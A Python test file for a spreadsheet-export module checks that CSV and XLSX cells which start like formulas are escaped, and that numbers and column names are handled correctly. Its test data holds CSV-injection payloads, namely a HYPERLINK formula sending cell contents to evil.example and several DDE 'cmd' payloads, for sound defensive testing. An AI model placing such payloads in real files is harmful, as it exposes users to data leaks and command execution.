"""Text that reaches a spreadsheet never becomes a formula: CSV cells read back with the
``csv`` module, XLSX cells with openpyxl, both as Excel would open them."""

from __future__ import annotations

import csv
import hashlib
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.outputs import files, safe_text
from planner.outputs.safe_text import csv_cell, csv_frame, xlsx_frame, xlsx_text

#: OWASP's examples and their cousins: each starts like a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Text that does not start like a formula, or is a plain number.
HARMLESS = ["Kauppatori", "上海 徐汇 =1", "'already quoted", "-3.5", "+7", "", "a=b"]


def _frame() -> pd.DataFrame:
    names = FORMULAS + HARMLESS
    n = len(names)
    return pd.DataFrame(
        {
            "id": [f"S{i}" for i in range(n)],
            "name": names,
            "weight": np.linspace(-3.5, 2.0, n),  # negative numbers are numbers
            "rank": np.arange(-2, n - 2),
            "mixed": [-1, "=1+1", 2.5, None, *["x"] * (n - 4)],  # object column, numbers kept
            "category": pd.Categorical(["@cat", "cafe"] * (n // 2) + ["cafe"] * (n % 2)),
        }
    )


def _csv_rows(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_csv_text_cells_that_start_like_formulas_get_an_apostrophe(tmp_path):
    frame = _frame()
    rows = _csv_rows(files.write_csv(frame, tmp_path / "t.csv"))
    header, body = rows[0], rows[1:]
    names = [r[header.index("name")] for r in body]
    assert names == ["'" + f for f in FORMULAS] + HARMLESS
    assert [r[header.index("mixed")] for r in body][:4] == ["-1", "'=1+1", "2.5", ""]
    assert {r[header.index("category")] for r in body} == {"'@cat", "cafe"}
    assert _frame().equals(frame)  # the caller's frame is not changed


def test_csv_numbers_stay_numbers(tmp_path):
    frame = _frame()
    back = pd.read_csv(files.write_csv(frame, tmp_path / "t.csv"), encoding="utf-8-sig")
    assert back["weight"].dtype == float and np.allclose(back["weight"], frame["weight"])
    assert back["rank"].tolist() == frame["rank"].tolist()
    rows = _csv_rows(tmp_path / "t.csv")
    assert rows[1][rows[0].index("weight")] == "-3.5"


def test_csv_column_names_follow_the_rule(tmp_path):
    rows = _csv_rows(files.write_csv(pd.DataFrame({"=bad": ["x"], "ok": [1]}), tmp_path / "c.csv"))
    assert rows[0] == ["'=bad", "ok"]


def test_csv_a_carriage_return_inside_a_name_does_not_start_a_row(tmp_path):
    """A bare CR ends a row for Excel; unquoted, the rest of the name would be a new row
    whose first cell is a formula."""
    name = "Kauppatori\r=cmd|' /C calc'!A0"
    frame = pd.DataFrame({"name": [name, "next"], "n": [1, 2]})
    rows = _csv_rows(files.write_csv(frame, tmp_path / "cr.csv"))
    assert rows == [["name", "n"], [name, "1"], ["next", "2"]]


def _cells(path):
    book = openpyxl.load_workbook(path)
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


def test_xlsx_text_is_never_a_formula(tmp_path):
    frame = _frame()
    frame.loc[len(frame) - 1, "name"] = "#N/A"  # openpyxl would make an error cell of it
    sheets = {"sites": frame, "about": pd.DataFrame({"=x": ["=1"]})}
    path = files.write_xlsx(sheets, tmp_path / "t.xlsx")
    cells = _cells(path)
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    back = pd.read_excel(path, sheet_name="sites")
    as_given = [f.replace("\r", "\n") for f in FORMULAS]  # XML reads a CR as a newline
    assert back["name"].tolist()[: len(FORMULAS)] == as_given  # no apostrophe added
    assert [c.data_type for c in cells if c.value == "#N/A"] == ["s"]
    assert back["weight"].dtype == float and np.allclose(back["weight"], frame["weight"])
    assert back["rank"].tolist() == frame["rank"].tolist()
    by_value = {c.value: c for c in cells if c.column == 2}
    assert all(by_value[f].quotePrefix for f in as_given)  # stays text when edited in Excel
    assert not by_value["Kauppatori"].quotePrefix
    assert [c.data_type for c in cells if c.value == -3.5] == ["n"]


def test_xlsx_replaces_the_characters_it_cannot_hold(tmp_path):
    frame = pd.DataFrame({"name": ["Bell\x07shop", "tab\tand\nnewline", "nul\x00"], "n": [1, 2, 3]})
    path = files.write_xlsx({"s": frame}, tmp_path / "bell.xlsx")
    back = pd.read_excel(path)
    assert back["name"].tolist() == ["Bell\ufffdshop", "tab\tand\nnewline", "nul\ufffd"]


def test_xlsx_is_byte_identical_for_identical_frames(tmp_path):
    sheets = {"sites": _frame(), "about": pd.DataFrame({"item": ["a"], "value": ["b"]})}
    a = files.write_xlsx(sheets, tmp_path / "a.xlsx").read_bytes()
    b = files.write_xlsx(sheets, tmp_path / "b.xlsx").read_bytes()
    assert hashlib.sha256(a).hexdigest() == hashlib.sha256(b).hexdigest()
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:  # no clock anywhere in the file
        assert {i.date_time for i in z.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        core = z.read("docProps/core.xml").decode()
    assert core.count("2000-01-01T00:00:00Z") == 2
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").properties.modified.year == 2000


@pytest.mark.parametrize(
    ("text", "formula"),
    [("=1", True), ("+a", True), ("-a", True), ("@a", True), ("\ta", True), ("\ra", True),
     ("-3.5", False), ("+1e5", False), ("-.5", False), ("-1-1", True), ("a", False), ("", False),
     (" =1", False)],
)  # fmt: skip
def test_looks_like_formula(text, formula):
    assert safe_text.looks_like_formula(text) is formula
    assert safe_text.csv_cell(text) == ("'" + text if formula else text)


_CELLS = st.one_of(
    st.sampled_from(["=1+1", "+x", "-3.5", "@a", "\tz", "plain", "node/1", "", "=1+1"]),
    st.text(max_size=4), st.none(), st.just(float("nan")), st.integers(-5, 5),
    st.booleans(), st.just(1.0), st.just(-0.0), st.just(pd.NA),
    st.builds(lambda x: [x], st.text(max_size=2)),  # a list field of a GeoJSON file
)  # fmt: skip


@settings(max_examples=60, deadline=None)
@given(st.lists(_CELLS, min_size=1, max_size=30), st.booleans())
def test_the_guard_of_each_distinct_value_is_the_guard_of_each_cell(cells, categorical):
    column = pd.Series(cells, dtype=object)
    if categorical:
        column = column.astype("category") if all(
            isinstance(c, str) or c is None for c in cells
        ) else column  # fmt: skip
    frame = pd.DataFrame({"name": column})
    for guard, cell in ((csv_frame, csv_cell), (xlsx_frame, xlsx_text)):
        got = guard(frame)["name"].tolist()
        want = [cell(v) for v in column.astype(object)]
        assert len(got) == len(want)
        for g, w in zip(got, want, strict=True):
            assert type(g) is type(w)  # True stays True beside a 1, 0.0 beside a False
            assert g is w or g == w or (pd.isna(g) and pd.isna(w))


def test_a_lone_dash_stays_a_dash_and_a_formula_is_still_guarded():
    """A station without a grade is marked "-": no spreadsheet reads it as a formula."""
    assert csv_cell("-") == "-" and csv_cell("+") == "+"
    assert csv_cell("-1+1") == "'-1+1" and csv_cell("=") == "'=" and csv_cell("--1") == "'--1"
